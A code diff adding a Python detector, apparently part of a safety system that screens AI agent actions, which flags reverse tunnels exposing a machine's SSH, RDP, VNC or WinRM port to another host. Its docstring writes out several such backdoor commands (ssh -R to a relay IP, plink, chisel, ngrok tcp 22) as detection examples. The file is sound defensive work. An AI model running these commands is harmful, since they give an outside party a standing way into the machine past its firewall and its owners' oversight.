@@ -1,0 +1,38 @@
+"""ACT-REVERSE-TUNNEL: a machine's remote-login port opened to another host by a reverse tunnel.
+
+What it catches
+    A reverse forward listening on every address of the far host (`0.0.0.0:`, `*:`, an empty
+    address) whose other end is SSH, RDP, VNC or WinRM on this machine or its network (`ssh -f
+    -N -R 0.0.0.0:2222:127.0.0.1:22 relay@203.0.113.9`, `autossh -M 0 -R`, `plink.exe -R
+    0.0.0.0:3389:127.0.0.1:3389`, `chisel client HOST R:2222:127.0.0.1:22`, whose reverse
+    remotes listen on every address), or that port handed to a public tunnel (`ngrok tcp
+    22`). As an agent action this is refused
+    outright; in a response it is one piece, weighed with the request.
+
+Why it is a redline (RL-PERSISTENCE)
+    Whoever holds the other end can log in to the machine from outside, through the firewall
+    and without a trace at the network edge: a standing way back in (ATT&CK T1572, protocol
+    tunnelling; T1021, remote services).
+
+Example
+    `ssh -f -N -o StrictHostKeyChecking=no -R 0.0.0.0:2222:127.0.0.1:22 tunnel@203.0.113.150`
+
+Allowed instead
+    Local forwards to reach a service oneself (`ssh -L 5432:localhost:5432 bastion`), sharing
+    a development web server through a reverse forward or tunnel (`ssh -R 8080:localhost:3000
+    demo@tunnel.example.com`, `ngrok http 3000`), a jump host (`ssh -J bastion app01`), a
+    reverse forward of one's own SSH to one's own server's loopback (`autossh -R
+    localhost:2222:localhost:22 me@vps.example.net`, reachable only by who logs in there).
+"""
+
+from __future__ import annotations
+
+from redline.redlines.capabilities import Capabilities
+from redline.redlines.capabilities import Capability as Cap
+from redline.redlines.registry import Detection, detector, one_piece
+
+
+@detector("ACT-REVERSE-TUNNEL", redline="RL-PERSISTENCE")
+def reverse_tunnel(found: Capabilities) -> Detection | None:
+    """A remote-login port exposed by a reverse tunnel (action), or part of an artifact."""
+    return one_piece(found, Cap.LOGIN_PORT_EXPOSED, 0.85)
